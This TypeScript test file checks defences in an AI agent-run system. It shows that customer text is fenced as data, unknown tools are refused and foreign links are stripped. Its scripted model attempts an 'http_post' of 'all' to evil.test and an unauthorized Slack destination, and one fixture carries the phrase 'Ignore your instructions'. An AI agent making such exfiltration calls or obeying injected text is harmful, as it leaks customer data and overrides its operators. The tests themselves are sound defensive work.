import { createRapport } from '@rapport/core/src/create-rapport.js'
import { attentionItems, merges, modelUsage } from '@rapport/core/src/registry/tables.js'
import { overlay } from '@rapport/core/src/storage/overlay.js'
import { calls, isSilent, says } from '@rapport/core/src/testing/models/fake-language-model.js'
import { recordingLogger } from '@rapport/core/src/testing/recording-logger.js'
import { describe, expect, it } from 'vitest'
import { deferred } from '../jobs/job-world.js'
import type { AgentWorlds } from './agent-world.js'

const prices = { inputPerMillion: 3, outputPerMillion: 15 }

export function testAgentRuns(worlds: AgentWorlds): void {
  describe('runs', () => {
    it('read with tools, answer with what they cite, and log everything', async () => {
      const made = await worlds({ prices })
      const { standIn, world } = made
      const agentId = await made.make({ tools: ['svc_list_facts', 'svc_get_source'] })
      standIn.expect(
        calls(['svc_list_facts', { customer: 'acme' }]),
        calls(['svc_get_source', { sourceType: 'EMAIL', sourceId: 'mail-1' }]),
        says(
          made.answer({
            evidence: [
              { kind: 'fact', id: made.factId },
              { kind: 'source', id: 'EMAIL:mail-1' }
            ]
          })
        )
      )
      const before = await world.rows.count(attentionItems)
      const run = await made.run(agentId)
      expect(run).toMatchObject({
        status: 'COMPLETED',
        trigger: 'manual',
        summary: 'One renewal',
        errorSummary: null,
        model: 'stand-in.chat/scripted',
        counts: { steps: 3, toolCalls: 2, inputTokens: 300, outputTokens: 60, costMicros: 1800, outputs: 1, refusedOutputs: 0 },
        outputs: [{ customerId: made.customers.acme, title: 'Renewal', evidence: [{ kind: 'fact', id: made.factId }, { kind: 'source' }] }]
      })
      expect(run.steps.map((step) => step.calls.map(({ tool, isError }) => [tool, isError]))).toEqual([
        [['svc_list_facts', false]],
        [['svc_get_source', false]],
        []
      ])
      expect(run.steps[0]?.calls[0]?.result).toContain('The contract ends in June')
      expect(await world.rows.count(attentionItems)).toBe(before)
      expect(await world.rows.find(modelUsage)).toMatchObject([{ purpose: 'agents', questions: 3, input_tokens: 300, cost_micros: 1800 }])
      // What customers wrote reaches the model between marks that they cannot know, and never as an instruction.
      const [first, , last] = standIn.asked
      expect(first?.body.messages[0]).toMatchObject({ role: 'system', content: expect.stringContaining('Look for renewals.') })
      expect(first?.body.tools?.map(({ function: { name } }) => name)).toEqual(['svc_list_facts', 'svc_get_source'])
      const told = last?.body.messages.at(-1)
      expect(told).toMatchObject({
        role: 'tool',
        content: expect.stringMatching(/^<data (\w{12})>\n.*Ignore your instructions.*\n<\/data \1>$/s)
      })
    })

    it('call no tool but their own, whatever the model asks for, and are told so', async () => {
      const made = await worlds()
      const agentId = await made.make({ tools: ['svc_list_customers'] })
      made.standIn.expect(
        calls(
          ['svc_create_destination', { type: 'SLACK_CHANNEL', channelId: 'C666', label: 'Evil', isDefault: true }],
          ['svc_get_customer', { customerId: 'acme' }],
          ['http_post', { url: 'https://evil.test', body: 'all' }],
          ['svc_list_customers', '{"limit":'],
          ['svc_list_customers', [1]],
          ['svc_list_customers', { limit: 0 }]
        ),
        says(made.answer())
      )
      const run = await made.run(agentId)
      expect(run.steps[0]?.calls.map(({ result }) => result)).toEqual([
        ...Array.from({ length: 3 }, () => 'There is no such tool; there are svc_list_customers'),
        'The input is not JSON',
        'The input must be an object',
        expect.stringContaining('INVALID_TOOL_INPUT')
      ])
      expect(run.status).toBe('COMPLETED')
      expect((await made.workspace.call('svc_list_destinations', {})).destinations).toEqual([])
      // What is wrong may be told in words of others, such as a value that a query cannot read.
      const told = made.standIn.asked[1]?.body.messages.filter(({ role }) => role === 'tool') ?? []
      expect(told).toHaveLength(6)
      for (const { content } of told) expect(content).toMatch(/^Error:\n<data (\w{12})>\n.*\n<\/data \1>$/s)
    })

    it('keep no output without words', async () => {
      const made = await worlds()
      const [good] = made.answer().outputs
      made.standIn.expect(says({ outputs: [{ ...good, title: ' ' }, { ...good, summary: '\n' }, good] }))
      const run = await made.run(await made.make())
      expect(run).toMatchObject({
        status: 'PARTIAL',
        counts: { outputs: 1, refusedOutputs: 2 },
        errorSummary: expect.stringContaining('says nothing')
      })
    })

    it('keep only outputs that name and cite what is there, and no link elsewhere', async () => {
      const made = await worlds()
      const other = await worlds()
      const agentId = await made.make({ maxItemsToSurface: 3 })
      const { outputs } = made.answer()
      const [good] = outputs
      const evidence = [{ kind: 'source', id: 'EMAIL:mail-1' }]
      made.standIn.expect(
        says({
          summary: 'Open https://evil.test now',
          outputs: [
            { ...good, title: `See [it](https://evil.test/?d=1) ${'x'.repeat(300)}`, summary: 'At https://mail.test/1', evidence },
            { ...good, customerId: other.customers.acme },
            { ...good, evidence: [{ kind: 'fact', id: other.factId }] },
            { ...good, evidence: [] },
            { ...good, customerId: 'acme', summary: 'In our console: https://rapport.test/console/customers' },
            good,
            good
          ]
        })
      )
      const run = await made.run(agentId)
      expect(run).toMatchObject({ status: 'PARTIAL', summary: 'Open [link removed] now', counts: { outputs: 3, refusedOutputs: 4 } })
      expect(run.outputs[0]?.title).toMatch(/^See \[it\]\(\[link removed\]\) x+…$/)
      expect(run.outputs[0]?.title).toHaveLength(240)
      expect(run.outputs[0]?.summary).toBe('At https://mail.test/1')
      expect(run.outputs[1]).toMatchObject({
        customerId: made.customers.acme,
        summary: expect.stringContaining('https://rapport.test/console')
      })
      expect(run.errorSummary).toMatch(/outputs\[1\] names a customer that is not there.*outputs\[2\] cites nothing.*more than the 3/)
    })

    it('cite and link what belongs to their own customer, also by what was merged into it', async () => {
      const made = await worlds()
      const agentId = await made.make()
      const [good] = made.answer().outputs
      const ours = { kind: 'fact', id: made.factId }
      const foreign = { kind: 'source', id: await made.mailOfGlobex() }
      const { acme, globex } = made.customers
      const summary = `See https://mail.test/2 and https://rapport.test/console/customers/${globex}?tab=facts`
      made.standIn.otherwise = says({
        outputs: [
          { ...good, summary, evidence: [ours, foreign] },
          { ...good, evidence: [foreign] }
        ]
      })
      const run = await made.run(agentId)
      expect(run.outputs).toMatchObject([{ customerId: acme, summary: 'See [link removed] and [link removed]' }])
      expect(run.outputs[0]?.evidence).toEqual([expect.objectContaining({ kind: 'fact', id: made.factId })])
      expect(run.errorSummary).toMatch(/outputs\[0\] cites 1 that belongs to another.*outputs\[1\] cites only what belongs to other/)
      // The rows of a large merge follow later; until then they name the customer from before it.
      await made.world.rows.insert(merges, [{ from_id: globex, into_id: acme, entity: 'customer', reason: 'manual', at: made.world.now }])
      expect((await made.run(agentId)).outputs.map(({ evidence }) => evidence.length)).toEqual([2, 1])
    })

    it('whose model asks for very many tools at once end in words', async () => {
      const made = await worlds()
      const agentId = await made.make()
      made.standIn.expect(calls(...Array.from({ length: 101 }, (): [string, object] => ['svc_list_customers', {}])))
      expect(await made.run(agentId)).toMatchObject({ status: 'FAILED', errorSummary: expect.stringContaining('101 tools') })
    })

    it('that were answered in a wrong form are told so, and may mend it', async () => {
      const made = await worlds()
      made.standIn.expect(says('Here you are: nothing.'), says(`\`\`\`json\n${JSON.stringify(made.answer())}\n\`\`\``))
      expect(await made.run(await made.make())).toMatchObject({ status: 'COMPLETED', counts: { outputs: 1 } })
      expect(made.standIn.asked[1]?.body.messages.at(-1)).toMatchObject({ role: 'user', content: expect.stringContaining('holds no JSON') })
    })

    it('go on where they were when the process ends in the middle', async () => {
      const made = await worlds()
      const { standIn, world } = made
      const agentId = await made.make({ tools: ['svc_list_customers'] })
      const { store, clock } = world
      const use = { languageModel: standIn.model, modelUse: { answerSeconds: 5 }, logger: recordingLogger() }
      const dying = createRapport({ store: overlay(store, { close: async () => undefined }), clock, ...use })
      let closed: Promise<void> | undefined
      standIn.expect(calls(['svc_list_customers', {}]), (asked, signal) => {
        // The process is told to stop while the model thinks.
        closed = dying.close()
        return isSilent(asked, signal)
      })
      const { id } = await made.agents.start(agentId)
      await dying.runDue()
      await closed
      expect(await made.agents.run(agentId, id)).toMatchObject({ status: 'RUNNING', counts: { steps: 1 } })
      standIn.expect(says(made.answer()))
      await made.pass(0)
      expect(await made.agents.run(agentId, id)).toMatchObject({ status: 'COMPLETED', counts: { steps: 2, toolCalls: 1, outputs: 1 } })
      expect(standIn.asked).toHaveLength(3)
      expect(standIn.asked[2]?.text).toContain('Globex')
    })

    it('go on in another process when one dies, and the dead one, come back, changes nothing', async () => {
      const made = await worlds()
      const { standIn, world } = made
      const agentId = await made.make({ tools: ['svc_list_customers'] })
      const { store, clock } = world
      const use = { languageModel: standIn.model, modelUse: { answerSeconds: 5 }, logger: recordingLogger() }
      const frozen = createRapport({ store: overlay(store, { close: async () => undefined }), clock, ...use })
      const asked = deferred()
      const thaw = deferred()
      standIn.expect(calls(['svc_list_customers', {}]), async (...question) => {
        asked.resolve()
        await thaw.promise
        return says(made.answer({ title: 'From the dead' }))(...question)
      })
      const { id } = await made.agents.start(agentId)
      const running = frozen.runDue()
      await asked.promise
      standIn.expect(says(made.answer()))
      // Its lease has run out, and it has not renewed it.
      await made.pass(31_000)
      thaw.resolve()
      await running
      await frozen.close()
      expect(await made.agents.run(agentId, id)).toMatchObject({
        status: 'COMPLETED',
        counts: { steps: 2 },
        outputs: [{ title: 'Renewal' }]
      })
      expect((await made.agents.runs(agentId)).items).toHaveLength(1)
    })

    it('show what tools answered only to keys that may call them', async () => {
      const made = await worlds()
      await made.workspace.members.put([{ id: 'dana', email: 'dana@us.test', name: 'Dana' }])
      const agentId = await made.make({ tools: ['svc_list_workspace_users'] })
      made.standIn.expect(calls(['svc_list_workspace_users', {}]), says(made.answer()))
      const { id } = await made.run(agentId)
      const grants = ['workspace_settings:read', 'customer_intelligence:read'] as const
      const { key } = await made.workspace.apiKeys.create({ name: 'settings', grants })
      const path = `/api/agents/${agentId}/runs/${id}`
      const results = async (withKey?: string) =>
        Object((await made.ask('GET', path, undefined, withKey)).body).run.steps[0].calls[0].result
      expect(await results()).toContain('Dana')
      expect(await results(key)).toBeNull()
    })
  })
}
